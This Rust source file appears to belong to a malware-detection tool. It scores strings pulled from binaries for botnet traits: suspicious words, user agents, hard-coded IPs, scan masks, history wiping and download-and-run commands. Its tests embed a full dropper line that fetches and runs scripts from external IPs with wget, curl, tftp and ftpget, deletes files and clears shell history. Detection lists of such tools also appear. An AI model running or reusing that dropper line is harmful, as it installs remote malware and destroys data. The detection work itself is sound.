//! String-derived features feeding rules 1 to 9.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::strings::StringInventory;

/// Lexicon shipped with the crate.
pub const DEFAULT_LEXICON: &str = include_str!("../data/lexicon.tsv");

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum LexiconError {
    #[error("line {line}: expected `word<TAB>coefficient`")]
    Malformed { line: usize },
    #[error("line {line}: coefficient must be an integer in 1..=5")]
    BadCoefficient { line: usize },
    #[error("line {line}: duplicate word `{word}`")]
    Duplicate { line: usize, word: String },
    #[error("lexicon has no entries")]
    EmptyLexicon,
}

/// Weighted vocabulary of suspicious words.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Lexicon {
    entries: BTreeMap<String, u8>,
    total_coefficient: u32,
}

impl Lexicon {
    pub fn new<I, S>(entries: I) -> Result<Self, LexiconError>
    where
        I: IntoIterator<Item = (S, u8)>,
        S: AsRef<str>,
    {
        let mut map = BTreeMap::new();
        for (i, (word, coef)) in entries.into_iter().enumerate() {
            let word = word.as_ref().trim().to_ascii_lowercase();
            if word.is_empty() {
                return Err(LexiconError::Malformed { line: i + 1 });
            }
            if !(1..=5).contains(&coef) {
                return Err(LexiconError::BadCoefficient { line: i + 1 });
            }
            if map.insert(word.clone(), coef).is_some() {
                return Err(LexiconError::Duplicate { line: i + 1, word });
            }
        }
        if map.is_empty() {
            return Err(LexiconError::EmptyLexicon);
        }
        let total_coefficient = map.values().map(|&c| c as u32).sum();
        Ok(Lexicon { entries: map, total_coefficient })
    }

    /// Parse the `word<TAB>coefficient` format. Blank lines and `#` comments
    /// are skipped.
    pub fn parse(text: &str) -> Result<Self, LexiconError> {
        let mut entries = BTreeMap::new();
        for (i, line) in text.lines().enumerate() {
            let line_no = i + 1;
            let trimmed = line.trim();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            let (word, coef) = trimmed.split_once('\t').ok_or(LexiconError::Malformed { line: line_no })?;
            let word = word.trim().to_ascii_lowercase();
            if word.is_empty() {
                return Err(LexiconError::Malformed { line: line_no });
            }
            let coef: u8 = coef.trim().parse().map_err(|_| LexiconError::BadCoefficient { line: line_no })?;
            if !(1..=5).contains(&coef) {
                return Err(LexiconError::BadCoefficient { line: line_no });
            }
            if entries.insert(word.clone(), coef).is_some() {
                return Err(LexiconError::Duplicate { line: line_no, word });
            }
        }
        if entries.is_empty() {
            return Err(LexiconError::EmptyLexicon);
        }
        let total_coefficient = entries.values().map(|&c| c as u32).sum();
        Ok(Lexicon { entries, total_coefficient })
    }

    pub fn builtin() -> Self {
        Self::parse(DEFAULT_LEXICON).expect("bundled lexicon is valid")
    }

    pub fn total_coefficient(&self) -> u32 {
        self.total_coefficient
    }

    pub fn entries(&self) -> impl Iterator<Item = (&str, u8)> {
        self.entries.iter().map(|(w, &c)| (w.as_str(), c))
    }

    pub fn words(&self) -> impl Iterator<Item = &str> {
        self.entries.keys().map(String::as_str)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Does `line` contain any lexicon word (case-insensitive)?
    pub fn matches_any(&self, line: &str) -> bool {
        let lower = line.to_ascii_lowercase();
        self.entries.keys().any(|w| lower.contains(w.as_str()))
    }
}

/// Result of rule 1's lexicon scan.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LexiconScore {
    /// Sum of coefficients of words found.
    pub points: u32,
    pub total: u32,
    pub rate: f64,
    pub matched_words: BTreeSet<String>,
}

/// Percentage of lexicon weight present in the inventory. Each word counts
/// once no matter how often it occurs.
pub fn score_lexicon(inventory: &StringInventory, lexicon: &Lexicon) -> LexiconScore {
    let lowered: Vec<String> = inventory.texts().map(str::to_ascii_lowercase).collect();
    let mut matched = BTreeSet::new();
    let mut points = 0;
    for (word, coef) in lexicon.entries() {
        if lowered.iter().any(|s| s.contains(word)) {
            matched.insert(word.to_string());
            points += coef as u32;
        }
    }
    let total = lexicon.total_coefficient();
    LexiconScore { points, total, rate: 100.0 * points as f64 / total as f64, matched_words: matched }
}

static UA_BROWSER: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^\s*Mozilla/\d").unwrap());

/// Strings that look like a browser user agent, or an HTTP request template
/// carrying a `User-Agent:` field. A lone header line such as
/// `User-Agent: %s` from a general-purpose HTTP client does not count.
pub fn detect_user_agents(inventory: &StringInventory) -> (bool, Vec<String>) {
    let mut seen = BTreeSet::new();
    let mut matches = Vec::new();
    for t in inventory.texts() {
        let is_ua = UA_BROWSER.is_match(t) || {
            let lower = t.to_ascii_lowercase();
            lower.contains("user-agent:") && lower.contains("http/1.")
        };
        if is_ua && seen.insert(t) {
            matches.push(t.to_string());
        }
    }
    (!matches.is_empty(), matches)
}

static DOTTED_QUAD: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\d{1,3}(?:\.\d{1,3}){3}").unwrap());
static IP_MASK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(\d{1,3})\.(\d{1,3})\.%d\.%d").unwrap());

/// Address blocks that say nothing about an external peer.
pub fn is_local_or_reserved(ip: Ipv4Addr) -> bool {
    ip.is_loopback()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_link_local()
        || ip.is_private()
        || is_netmask(ip)
}

/// Contiguous-ones netmasks such as 255.255.255.0.
fn is_netmask(ip: Ipv4Addr) -> bool {
    let v = u32::from(ip);
    v != 0 && v.leading_ones() + v.trailing_zeros() == 32 && v.leading_ones() >= 8
}

fn is_digit_or_dot(b: Option<&u8>) -> bool {
    b.is_some_and(|b| b.is_ascii_digit() || *b == b'.')
}

/// Dotted-quad literals in `text` with number boundaries on both sides.
fn dotted_quads(text: &str) -> impl Iterator<Item = Ipv4Addr> + '_ {
    let bytes = text.as_bytes();
    DOTTED_QUAD.find_iter(text).filter_map(move |m| {
        if m.start() > 0 && is_digit_or_dot(bytes.get(m.start() - 1)) {
            return None;
        }
        match bytes.get(m.end()) {
            Some(b) if b.is_ascii_digit() => return None,
            Some(b'.') if bytes.get(m.end() + 1).is_some_and(u8::is_ascii_digit) => return None,
            _ => {}
        }
        let mut octets = [0u8; 4];
        for (slot, part) in octets.iter_mut().zip(m.as_str().split('.')) {
            *slot = part.parse().ok()?;
        }
        Some(Ipv4Addr::from(octets))
    })
}

/// Hard-coded external IPv4 addresses, deduplicated and sorted. A trailing
/// `:port` is ignored.
pub fn detect_ips(inventory: &StringInventory) -> Vec<String> {
    let found: BTreeSet<Ipv4Addr> =
        inventory.texts().flat_map(dotted_quads).filter(|ip| !is_local_or_reserved(*ip)).collect();
    found.into_iter().map(|ip| ip.to_string()).collect()
}

/// Distinct `a.b.%d.%d` scan-range masks.
pub fn detect_ip_masks(inventory: &StringInventory, blacklist_threshold: usize) -> (usize, bool) {
    let mut masks = BTreeSet::new();
    for t in inventory.texts() {
        let bytes = t.as_bytes();
        for caps in IP_MASK.captures_iter(t) {
            let m = caps.get(0).unwrap();
            if m.start() > 0 && is_digit_or_dot(bytes.get(m.start() - 1)) {
                continue;
            }
            let ok = [1, 2].iter().all(|&g| caps[g].parse::<u16>().is_ok_and(|v| v <= 255));
            if ok {
                masks.insert(m.as_str().to_string());
            }
        }
    }
    let count = masks.len();
    (count, count >= blacklist_threshold.max(1))
}

pub const HISTORY_SIGNATURES: &[&str] = &["history -c", "history -w", ".bash_history"];

pub fn detect_history_tampering(inventory: &StringInventory) -> bool {
    inventory.texts().any(|t| HISTORY_SIGNATURES.iter().any(|s| t.contains(s)))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PathCategory {
    /// Host and boot configuration files.
    Network,
    /// Anything under `/proc/`.
    Proc,
    /// Paths rooted at well-known top-level directories.
    Root,
}

pub const NETWORK_FILES: &[&str] = &["/etc/hosts", "/etc/config/hosts", "/etc/rc.d/rc.local"];
pub const ROOT_DIRS: &[&str] = &["usr", "dev", "bin", "var", "tmp", "sys", "root"];

static ROOT_PATH: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&format!(r"(?:^|[^A-Za-z0-9_.~/-])/(?:{})(?:/|$)", ROOT_DIRS.join("|"))).unwrap());

fn path_matches(category: PathCategory, text: &str) -> bool {
    match category {
        PathCategory::Network => NETWORK_FILES.iter().any(|f| text.contains(f)),
        PathCategory::Proc => text.contains("/proc/"),
        PathCategory::Root => ROOT_PATH.is_match(text),
    }
}

/// Strings referencing system paths of the given category, first-seen order.
pub fn detect_path_refs(inventory: &StringInventory, category: PathCategory) -> Vec<String> {
    let mut seen = BTreeSet::new();
    inventory.texts().filter(|t| path_matches(category, t)).filter(|t| seen.insert(*t)).map(str::to_string).collect()
}

pub const INSTALL_TOKENS: &[&str] = &["wget ", "wget http", "tftp ", "ftpget ", "chmod 777", "busybox ", "cd /tmp"];

/// A long shell line chaining download-and-run commands.
pub fn detect_auto_install(inventory: &StringInventory, min_len: usize, min_tokens: usize) -> bool {
    inventory.texts().any(|t| {
        if t.len() < min_len {
            return false;
        }
        let lower = t.to_ascii_lowercase();
        INSTALL_TOKENS.iter().filter(|tok| lower.contains(*tok)).count() >= min_tokens
    })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct DetectorThresholds {
    pub blacklist_threshold: usize,
    pub auto_install_min_len: usize,
    pub auto_install_min_tokens: usize,
}

impl Default for DetectorThresholds {
    fn default() -> Self {
        DetectorThresholds { blacklist_threshold: 10, auto_install_min_len: 120, auto_install_min_tokens: 3 }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct FeatureSet {
    pub lexicon_rate: f64,
    pub lexicon_points: u32,
    pub lexicon_total: u32,
    pub matched_words: BTreeSet<String>,
    pub has_user_agents: bool,
    pub user_agents: Vec<String>,
    pub hardcoded_ips: Vec<String>,
    pub ip_mask_count: usize,
    pub has_ip_blacklist: bool,
    pub has_history_tampering: bool,
    pub network_file_refs: Vec<String>,
    pub proc_file_refs: Vec<String>,
    pub root_file_refs: Vec<String>,
    pub has_auto_install: bool,
}

/// Run every string detector over one inventory.
pub fn detect_features(inventory: &StringInventory, lexicon: &Lexicon, thresholds: &DetectorThresholds) -> FeatureSet {
    let lex = score_lexicon(inventory, lexicon);
    let (has_user_agents, user_agents) = detect_user_agents(inventory);
    let (ip_mask_count, has_ip_blacklist) = detect_ip_masks(inventory, thresholds.blacklist_threshold);
    FeatureSet {
        lexicon_rate: lex.rate,
        lexicon_points: lex.points,
        lexicon_total: lex.total,
        matched_words: lex.matched_words,
        has_user_agents,
        user_agents,
        hardcoded_ips: detect_ips(inventory),
        ip_mask_count,
        has_ip_blacklist,
        has_history_tampering: detect_history_tampering(inventory),
        network_file_refs: detect_path_refs(inventory, PathCategory::Network),
        proc_file_refs: detect_path_refs(inventory, PathCategory::Proc),
        root_file_refs: detect_path_refs(inventory, PathCategory::Root),
        has_auto_install: detect_auto_install(
            inventory,
            thresholds.auto_install_min_len,
            thresholds.auto_install_min_tokens,
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn inv(texts: &[&str]) -> StringInventory {
        StringInventory::from_texts(texts.iter().copied())
    }

    const FIGURE3: &str =
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://185.101.107.128/bins.sh; \
        curl -O http://185.158.113.30/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 185.158.113.30 -c get tftp1.sh; \
        chmod 777 tftp1.sh; sh tftp1.sh; ftpget -v -u anonymous -p anonymous -P 21 185.158.113.30 ftp1.sh ftp1.sh; \
        sh ftp1.sh; rm -rf *; history -c; history -w; rm -rf ~/.bash_history\\r\\n";

    #[test]
    fn lexicon_parse_and_errors() {
        let lex = Lexicon::parse("# c\nhttp\t4\n\nUDP\t5\n").unwrap();
        assert_eq!(lex.total_coefficient(), 9);
        assert!(lex.words().any(|w| w == "udp"));
        assert_eq!(Lexicon::parse("http 4"), Err(LexiconError::Malformed { line: 1 }));
        assert_eq!(Lexicon::parse("http\t6"), Err(LexiconError::BadCoefficient { line: 1 }));
        assert_eq!(Lexicon::parse("http\t0"), Err(LexiconError::BadCoefficient { line: 1 }));
        assert!(matches!(Lexicon::parse("a\t1\nA\t2"), Err(LexiconError::Duplicate { .. })));
        assert_eq!(Lexicon::parse("# nothing\n"), Err(LexiconError::EmptyLexicon));
    }

    #[test]
    fn builtin_lexicon_total() {
        let lex = Lexicon::builtin();
        assert_eq!(lex.total_coefficient(), 105);
        for (w, c) in [("http", 4), ("flood", 5), ("udp", 5), ("connect", 3), ("ping", 2), ("kill", 2)] {
            assert_eq!(lex.entries().find(|e| e.0 == w).map(|e| e.1), Some(c), "{w}");
        }
    }

    #[test]
    fn lexicon_rate_bounds() {
        let lex = Lexicon::parse("flood\t5\nudp\t5").unwrap();
        assert_eq!(score_lexicon(&inv(&["nothing here"]), &lex).rate, 0.0);
        assert_eq!(score_lexicon(&inv(&["HTTPFLOOD", "sendUDP"]), &lex).rate, 100.0);
        let half = score_lexicon(&inv(&["floodfloodflood", "flood"]), &lex);
        assert_eq!(half.rate, 50.0);
        assert_eq!(half.points, 5);
    }

    #[test]
    fn user_agent_examples() {
        let ua = "Mozilla/5.0 (Linux; Android 4.4.2; LGLS740 Build/KOT49I.LS740ZV6) AppleWebKit/537.36";
        assert!(detect_user_agents(&inv(&[ua])).0);
        assert!(detect_user_agents(&inv(&["HTTP/1.1\r\nUser-Agent:"])).0);
        assert!(detect_user_agents(&inv(&["%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"])).0);
        assert!(!detect_user_agents(&inv(&["User-Agent: %s"])).0);
        assert!(!detect_user_agents(&inv(&["sqrt", "log1p", "frexp: domain error"])).0);
        assert!(!detect_user_agents(&inv(&["see Mozilla docs"])).0);
    }

    #[test]
    fn ip_examples() {
        assert_eq!(detect_ips(&inv(&["185.158.113.30:777"])), ["185.158.113.30"]);
        assert!(detect_ips(&inv(&["127.0.0.1", "0.0.0.0", "192.168.0.254"])).is_empty());
        assert!(detect_ips(&inv(&["999.1.2.3"])).is_empty());
        assert!(
            detect_ips(&inv(&["255.255.255.255", "169.254.0.0", "10.1.2.3", "172.16.5.4", "255.255.255.0"])).is_empty()
        );
        assert_eq!(detect_ips(&inv(&["6N^Nu191.96.249.102"])), ["191.96.249.102"]);
        assert!(detect_ips(&inv(&["version 1.2.3.4.5"])).is_empty());
        assert_eq!(detect_ips(&inv(&["ping 8.8.8.8.", "8.8.8.8"])), ["8.8.8.8"]);
    }

    #[test]
    fn mask_examples() {
        assert_eq!(detect_ip_masks(&inv(&["27.0.%d.%d"]), 10), (1, false));
        let many: Vec<String> = (0..43).map(|i| format!("{}.{}.%d.%d", 100 + i, i)).collect();
        assert_eq!(detect_ip_masks(&StringInventory::from_texts(many), 10), (43, true));
        assert_eq!(detect_ip_masks(&inv(&["nothing"]), 10), (0, false));
        // duplicates count once, out-of-range octets never
        assert_eq!(detect_ip_masks(&inv(&["27.0.%d.%d", "27.0.%d.%d", "45.1103.%d.%d", "300.1.%d.%d"]), 1), (1, true));
    }

    #[test]
    fn history_examples() {
        assert!(detect_history_tampering(&inv(&["history -c;history -w"])));
        assert!(detect_history_tampering(&inv(&["rm -rf ~/.bash_history"])));
        assert!(!detect_history_tampering(&inv(&["historical data"])));
    }

    #[test]
    fn path_examples() {
        assert_eq!(detect_path_refs(&inv(&["/proc/net/route"]), PathCategory::Proc), ["/proc/net/route"]);
        assert_eq!(detect_path_refs(&inv(&["/etc/rc.d/rc.local"]), PathCategory::Network), ["/etc/rc.d/rc.local"]);
        assert!(detect_path_refs(&inv(&["etc/hosts"]), PathCategory::Network).is_empty());
        let root =
            inv(&["/bin/busybox", "/tmp", "/bin:/usr/bin", "cd /tmp || x", "abc/usr/lib", "/usrlocal", "/dev/urandom"]);
        assert_eq!(
            detect_path_refs(&root, PathCategory::Root),
            ["/bin/busybox", "/tmp", "/bin:/usr/bin", "/dev/urandom"]
        );
    }

    #[test]
    fn auto_install_examples() {
        assert!(detect_auto_install(&inv(&[FIGURE3]), 120, 3));
        assert!(!detect_auto_install(&inv(&["wget http://x"]), 120, 3));
        assert!(!detect_auto_install(&StringInventory::default(), 120, 3));
    }

    fn arb_text() -> impl Strategy<Value = String> {
        prop_oneof![
            "[ -~]{0,40}",
            Just("185.158.113.30:777".to_string()),
            Just("27.0.%d.%d".to_string()),
            Just("/proc/cpuinfo".to_string()),
            Just("Mozilla/4.0 (compatible)".to_string()),
            Just("history -c".to_string()),
            Just(FIGURE3.to_string()),
            Just("sendUDP".to_string()),
        ]
    }

    proptest! {
        #[test]
        fn adding_strings_is_monotone(base in proptest::collection::vec(arb_text(), 0..12), extra in proptest::collection::vec(arb_text(), 0..6)) {
            let lex = Lexicon::builtin();
            let th = DetectorThresholds { blacklist_threshold: 1, ..Default::default() };
            let a = detect_features(&StringInventory::from_texts(base.clone()), &lex, &th);
            let mut all = base.clone();
            all.extend(extra);
            let b = detect_features(&StringInventory::from_texts(all), &lex, &th);
            prop_assert!(b.lexicon_rate >= a.lexicon_rate);
            prop_assert!(b.hardcoded_ips.len() >= a.hardcoded_ips.len());
            prop_assert!(b.ip_mask_count >= a.ip_mask_count);
            prop_assert!(b.proc_file_refs.len() >= a.proc_file_refs.len());
            prop_assert!(b.root_file_refs.len() >= a.root_file_refs.len());
            prop_assert!(b.network_file_refs.len() >= a.network_file_refs.len());
            for (x, y) in [
                (a.has_user_agents, b.has_user_agents),
                (a.has_ip_blacklist, b.has_ip_blacklist),
                (a.has_history_tampering, b.has_history_tampering),
                (a.has_auto_install, b.has_auto_install),
            ] {
                prop_assert!(!x || y);
            }
        }

        #[test]
        fn ips_unique_and_roundtrip(texts in proptest::collection::vec("[0-9.: a-z]{0,30}", 0..20)) {
            let ips = detect_ips(&StringInventory::from_texts(texts));
            let set: BTreeSet<_> = ips.iter().collect();
            prop_assert_eq!(set.len(), ips.len());
            for ip in &ips {
                let parsed: Ipv4Addr = ip.parse().unwrap();
                prop_assert_eq!(&parsed.to_string(), ip);
            }
        }

        #[test]
        fn lexicon_rate_ignores_duplication(texts in proptest::collection::vec(arb_text(), 0..10), times in 1usize..4) {
            let lex = Lexicon::builtin();
            let once = score_lexicon(&StringInventory::from_texts(texts.clone()), &lex);
            let repeated: Vec<String> = texts.iter().flat_map(|t| std::iter::repeat_n(t.clone(), times)).collect();
            let many = score_lexicon(&StringInventory::from_texts(repeated), &lex);
            prop_assert_eq!(once, many);
        }

        #[test]
        fn lexicon_rate_in_range(texts in proptest::collection::vec(arb_text(), 0..10)) {
            let r = score_lexicon(&StringInventory::from_texts(texts), &Lexicon::builtin()).rate;
            prop_assert!((0.0..=100.0).contains(&r));
        }
    }
}
